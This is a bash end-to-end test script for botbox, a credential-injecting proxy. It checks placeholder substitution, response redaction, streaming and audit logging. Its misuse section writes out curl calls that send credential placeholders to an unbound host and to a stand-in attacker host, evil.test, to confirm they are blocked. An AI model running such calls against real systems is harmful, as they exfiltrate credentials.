#!/usr/bin/env bash
# Placeholders and redaction (docs/security.md, "Placeholders and
# redaction"), in the intercepting sidecar: the workload (uid 1000) holds
# only the placeholders botbox published in placeholders_file. api-key is
# the api.test rule's injected key (bound to its rules' hosts by default),
# tok a second credential bound to api.test with a value that a URL must
# escape. Checked where each lands: at the upstream (its log), in what the
# workload reads, in the audit log.
. "$(dirname "$0")/../lib.sh"

intercept_world
serve_stop
TOK='tk_9f8e7d+6c/5b=4a'
TOK_PCT='tk_9f8e7d%2B6c%2F5b%3D4a'
printf '%s\n' "$TOK" >"$E2E_TMP/secrets/tok"
mkdir -p "$E2E_TMP/ph"
chown 1337:1337 "$E2E_TMP/secrets/tok" "$E2E_TMP/ph"
cfg_merge "$E2E_TMP/botbox.yaml" <<YAML
placeholders_file: $E2E_TMP/ph/placeholders.env
credentials:
  - secret_ref: api-key
    placeholder: {prefix: "sk-e2e-", length: 48}
    env: API_KEY
  - secret_ref: tok
    hosts: [api.test]
    env: TOK
  - secret_ref: gone # bound, but its file is not in secrets_dir
    hosts: [api.test]
    env: GONE
YAML
check "botbox check accepts the credentials" "$BIN" check --config "$E2E_TMP/botbox.yaml"
serve_start app "$E2E_TMP/botbox.yaml"

PHF=$E2E_TMP/ph/placeholders.env
check "placeholders_file is written, mode 0644" test "$(stat -c %a "$PHF")" = 644
PH=$(sed -n 's/^API_KEY=//p' "$PHF")
PH_TOK=$(sed -n 's/^TOK=//p' "$PHF")
check "API_KEY's placeholder has its shape: sk-e2e- and 48 characters (${PH:0:12}...)" \
    bash -c "[[ '$PH' =~ ^sk-e2e-[A-Za-z0-9]{41}$ ]]"
check "TOK's placeholder: 32 random characters" bash -c "[[ '$PH_TOK' =~ ^[A-Za-z0-9]{32}$ ]]"
refute "placeholders_file holds no secret" grep -qF -e "$SECRET" -e "$TOK" "$PHF"

mkdir -m 777 "$E2E_TMP/out"
O=$E2E_TMP/out
https() { as_uid 1000 app env CURL_CA_BUNDLE="$CA/ca.crt" curl -sS --max-time 10 "$@"; }
# last_request: the upstream's record of the last request (JSON)
last_request() { grep '"event": "request"' "$E2E_TMP/upstream.log" | tail -1; }
# at_upstream PY_EXPR: the last request's record r satisfies it
at_upstream() {
    $PY - "$(last_request)" "$1" "$SECRET" "$TOK" "$TOK_PCT" "$PH" "$PH_TOK" <<'PY'
import json, sys
r = json.loads(sys.argv[1])
secret, tok, tok_pct, ph, ph_tok = sys.argv[3:8]
h = {}
for k, v in r["headers"]:
    h.setdefault(k.lower(), []).append(v)
ok = eval(sys.argv[2])
if not ok:
    print(json.dumps(r)[:1500])
sys.exit(0 if ok else 1)
PY
}

# ---- substitution, each place a placeholder can be ----
https -o /dev/null https://api.test/echo -H "X-Tok: $PH_TOK"
check "in a header: the upstream gets the secret" at_upstream 'h["x-tok"] == [tok]'
https -o /dev/null "https://api.test/echo?key=$PH_TOK&x=1"
check "in the query: the secret, percent-encoded" at_upstream 'r["path"] == "/echo?key=" + tok_pct + "&x=1"'
https -o /dev/null "https://api.test/keys/$PH_TOK/show"
check "in the path: the secret, percent-encoded" at_upstream 'r["path"] == "/keys/" + tok_pct + "/show"'
https -o /dev/null https://api.test/echo -H 'Content-Type: application/json' \
    -d "{\"key\": \"$PH_TOK\", \"n\": 1}"
check "in a JSON body (Content-Length, held): the secret, Content-Length adjusted" \
    at_upstream 'r["body"] == "{\"key\": \"" + tok + "\", \"n\": 1}" and h["content-length"] == [str(len(r["body"]))]'
https -o /dev/null https://api.test/echo -d "client_secret=$PH_TOK&grant_type=x"
check "in a form body: the secret, percent-encoded" \
    at_upstream 'r["body"] == "client_secret=" + tok_pct + "&grant_type=x"'
printf 'a=%s;b=%s' "$PH_TOK" "$PH_TOK" >"$E2E_TMP/chunked.txt"
chmod 644 "$E2E_TMP/chunked.txt"
https -o /dev/null https://api.test/echo -H 'Transfer-Encoding: chunked' -H 'Content-Type: text/plain' \
    --data-binary @"$E2E_TMP/chunked.txt"
check "in a chunked body, twice: the secret both times, still chunked" \
    at_upstream 'r["body"] == "a=%s;b=%s" % (tok, tok) and h.get("transfer-encoding") == ["chunked"]'
$PY -c "import sys; sys.stdout.write('x' * 1000 + sys.argv[1] + 'y' * 200000)" "$PH_TOK" >"$E2E_TMP/big.txt"
chmod 644 "$E2E_TMP/big.txt"
https -o /dev/null https://api.test/echo -H 'Content-Type: text/plain' --data-binary @"$E2E_TMP/big.txt"
check "a 200 KB Content-Length body (over the hold limit): re-framed chunked, the secret in it" \
    at_upstream 'h.get("transfer-encoding") == ["chunked"] and "content-length" not in h and r["body_len"] == 201000 + len(tok) and r["body"][1000:1000 + len(tok)] == tok'
https -o /dev/null https://api.test/echo -H "Authorization: Bearer $PH"
check "the rule's own Authorization is still delete-then-add: the key once, no placeholder" \
    at_upstream 'h["authorization"] == ["Bearer " + secret] and ph not in json.dumps(r)'
https -o /dev/null --http2 https://api.test/echo -H "X-Tok: $PH_TOK" -d "k=$PH_TOK"
check "over HTTP/2 from the client: header and body substituted" \
    at_upstream 'h["x-tok"] == [tok] and r["body"] == "k=" + tok_pct'
check "the audit line counts the substitutions and names the credential" \
    wait_for 3 audit_has 'a.get("substituted") == 2 and "tok" in a.get("credentials", []) and a.get("proto") == "h2"'

n=$(requests)
PH_GONE=$(sed -n 's/^GONE=//p' "$PHF")
expect "a bound placeholder whose secret is missing: 500, says why" "secret not available 500" \
    https -w ' %{http_code}' https://api.test/echo -H "X-Gone: $PH_GONE"
check "... nothing reached the upstream" test "$(requests)" = "$n"
check "... audited secret_not_available, naming the credential" wait_for 3 audit_has \
    'a.get("reason") == "secret_not_available" and a.get("credentials") == ["gone"]'

# ---- misuse: a placeholder where its credential is not bound ----
n=$(requests)
expect "to an allowed host it is not bound to (scoped.test), in a header: 403" "403" \
    https -o /dev/null -w '%{http_code}' https://scoped.test/echo -H "X-Key: $PH_TOK"
expect "... in the query: 403" "403" https -o /dev/null -w '%{http_code}' "https://scoped.test/echo?k=$PH"
expect "... in a body: 403" "403" https -o /dev/null -w '%{http_code}' -X GET \
    https://scoped.test/echo -d "secret=$PH_TOK"
expect "to a host no rule allows (evil.test): 403" "403" \
    https -o /dev/null -w '%{http_code}' https://evil.test/ -H "X-Key: $PH"
check "nothing of them reached the upstream" test "$(requests)" = "$n"
check "audited credential_misuse with the credential's name, never a value" wait_for 3 audit_has \
    'a.get("reason") == "credential_misuse" and a.get("host") == "scoped.test" and a.get("credentials") == ["tok"]'
check "... evil.test's too, naming api-key" wait_for 3 audit_has \
    'a.get("reason") == "credential_misuse" and a.get("host") == "evil.test" and a.get("credentials") == ["api-key"]'

subs=$(metric 'botbox_credential_substitutions_total{host=api.test}')
reds=$(metric 'botbox_redactions_total{host=api.test}')
mis=$(metric 'botbox_credential_misuse_total{host=scoped.test}')
misd=$(metric 'botbox_credential_misuse_total{host=_denied}')
check "metrics count them by host: $subs substitutions, $reds redactions at api.test, misuse 3 at scoped.test ($mis) and 1 denied ($misd)" \
    test "$subs" -eq 10 -a "$reds" -ge 5 -a "$mis" = 3 -a "$misd" = 1

# ---- redaction: an upstream that echoes what it got ----
for mode in length chunked sse; do
    https -D "$O/r.h" -o "$O/r.out" "https://api.test/reflect?mode=$mode" \
        -H "X-Tok: $PH_TOK" -d "echo=$PH_TOK"
    check "/reflect ($mode): no secret reaches the workload, the placeholders are there" \
        bash -c "! grep -qF -e '$SECRET' -e '$TOK' -e '$TOK_PCT' '$O/r.out' '$O/r.h' &&
                 grep -qF 'Authorization: Bearer $PH' '$O/r.out' &&
                 grep -qiF 'X-Tok: $PH_TOK' '$O/r.out' && grep -qF 'echo=$PH_TOK' '$O/r.out'"
done
$PY -c "import sys; sys.stdout.write('z' * 100000)" >"$E2E_TMP/z.txt"
MASK=$($PY -c "import sys; print('[REDACTED' + '*' * (len(sys.argv[1]) - 10) + ']')" "$SECRET")
chmod 644 "$E2E_TMP/z.txt"
https -D "$O/big.h" -o "$O/big.out" --http1.1 "https://api.test/reflect?mode=length" \
    -H 'Content-Type: text/plain' --data-binary @"$E2E_TMP/z.txt"
check "an echo of over 64 KiB with a Content-Length: kept, true, the key masked at its own length" \
    bash -c "grep -qi '^content-length: $(stat -c %s "$O/big.out")' '$O/big.h' &&
             ! grep -qF '$SECRET' '$O/big.out' && grep -qF 'Authorization: Bearer $MASK' '$O/big.out'"
t=$(https -o "$O/slow.out" -w '%{time_starttransfer} %{time_total}' "https://api.test/slow?s=3")
check "a slow answer with a short Content-Length (10 KiB over 3 s) is not held to its end: first byte at ${t% *} s of ${t#* } s, whole" \
    bash -c "awk -v a='${t% *}' -v b='${t#* }' 'BEGIN { exit !(a < 1.5 && b > 2.5) }' &&
             test \"\$(sha256sum <'$O/slow.out' | cut -d' ' -f1)\" = '$(pattern_sha 10240)'"
check "the answer's own header with the key reads the placeholder" \
    grep -qiF "x-seen-authorization: Bearer $PH" "$O/r.h"
check "the SSE answer still came as events, one per line" grep -q "^data: Authorization: Bearer $PH" "$O/r.out"
https -o "$O/r.out" --http2 "https://api.test/reflect?mode=length"
check "/reflect over HTTP/2: no secret, the placeholder" \
    bash -c "! grep -qF '$SECRET' '$O/r.out' && grep -qF 'Bearer $PH' '$O/r.out'"
# Every cut of the answer into two TLS records around the key's line.
expect "the key split across two TLS records at each byte of its line: never seen" "clean" \
    as_uid 1000 app $PY - "$CA/ca.crt" "$SECRET" "$PH" <<'PY'
import http.client, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[1])
secret, ph = sys.argv[2].encode(), sys.argv[3].encode()
c = http.client.HTTPSConnection("api.test", 443, context=ctx, timeout=10)
c.request("GET", "/reflect?mode=length")
whole = c.getresponse().read()
at = whole.find(b"Authorization: Bearer ")
bad = []
for cut in range(max(0, at - 2), at + 24 + len(ph) + 2):
    c.request("GET", "/reflect?mode=split&at=%d" % cut)
    body = c.getresponse().read()
    if secret in body or (b"Bearer " + ph) not in body:
        bad.append(cut)
print("clean" if not bad else "secret seen at cuts %s" % bad)
PY
check "the redactions are counted and audited with the key's name" wait_for 3 audit_has \
    'a.get("path") == "/reflect" and a.get("redacted", 0) >= 2 and "api-key" in a.get("credentials", [])'

# ---- compressed answers ----
https -o /dev/null --compressed https://api.test/echo
check "the upstream is asked for an identity encoding (the client's gzip replaced)" \
    at_upstream 'h["accept-encoding"] == ["identity"]'
expect "an answer compressed anyway: 502" "502" \
    https -o /dev/null -w '%{http_code}' --compressed "https://api.test/reflect?mode=gzip"
check "... audited compressed_response" wait_for 3 audit_has \
    'a.get("reason") == "compressed_response" and a.get("status") == 502'

# ---- a 1 GiB streamed body with substitution on ----
hwm0=$(rss_kib VmHWM)
want=$(as_uid 1000 app $PY - "$CA/ca.crt" "$PH_TOK" "$TOK" "$TOK_PCT" <<'PY'
import hashlib, http.client, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[1])
ph, tok = sys.argv[2].encode(), sys.argv[3].encode()
block = bytes(range(256)) * 4096  # 1 MiB
want = hashlib.sha256()
def body():
    for i in range(1024):
        part = block
        if i % 100 == 50:
            part = block[:1000] + ph + block[1000 + len(ph):]
            want.update(block[:1000] + tok + block[1000 + len(ph):])
        else:
            want.update(part)
        yield part
c = http.client.HTTPSConnection("api.test", 443, context=ctx, timeout=300)
c.request("POST", "/sink?find=" + sys.argv[4], body=body(),
          headers={"Content-Type": "application/octet-stream"}, encode_chunked=True)
r = c.getresponse()
r.read()
print(r.status, want.hexdigest())
PY
)
sink=$(grep '"event": "sink"' "$E2E_TMP/upstream.log" | tail -1)
if $PY - "$sink" "$want" "${#TOK}" <<'PY'; then
import json, sys
r = json.loads(sys.argv[1])
status, sha = sys.argv[2].split()
delta = int(sys.argv[3]) - 32
sys.exit(0 if status == "200" and r["sha256"] == sha and r["found"] == 10 and
         r["body_len"] == 1024 * 1048576 + 10 * delta else 1)
PY
    pass "a 1 GiB chunked upload with a placeholder in every 100 MiB: byte-exact at the upstream but for the 10 substitutions"
else
    fail "a 1 GiB chunked upload with substitution: byte-exact" "want $want; $sink"
fi
hwm1=$(rss_kib VmHWM)
# bounded: far below the GiB that went through (the sanitizers' quarantine
# and shadow memory take some 26 MiB of it under SAN=1)
check "... botbox's peak RSS grew by $((hwm1 - hwm0)) KiB (under 64 MiB for 1 GiB)" test $((hwm1 - hwm0)) -lt 65536

# ---- a BotBox config (no credentials): the injected key is masked ----
serve_stop
cfg_set "$E2E_TMP/botbox.yaml" credentials '[]'
serve_start app "$E2E_TMP/botbox.yaml"
https -o "$O/r.out" "https://api.test/reflect?mode=chunked"
check "without a placeholder the key reads as [REDACTED] in the echo" \
    bash -c "grep -qF 'Authorization: Bearer [REDACTED]' '$O/r.out' && ! grep -qF '$SECRET' '$O/r.out'"
serve_stop
cfg_set "$E2E_TMP/botbox.yaml" redaction.enabled false
serve_start app "$E2E_TMP/botbox.yaml"
https -o "$O/r.out" "https://api.test/reflect?mode=chunked"
check "with redaction.enabled: false the echo is as BotBox relayed it (the check above can fail)" \
    grep -qF "Authorization: Bearer $SECRET" "$O/r.out"
serve_stop
finish
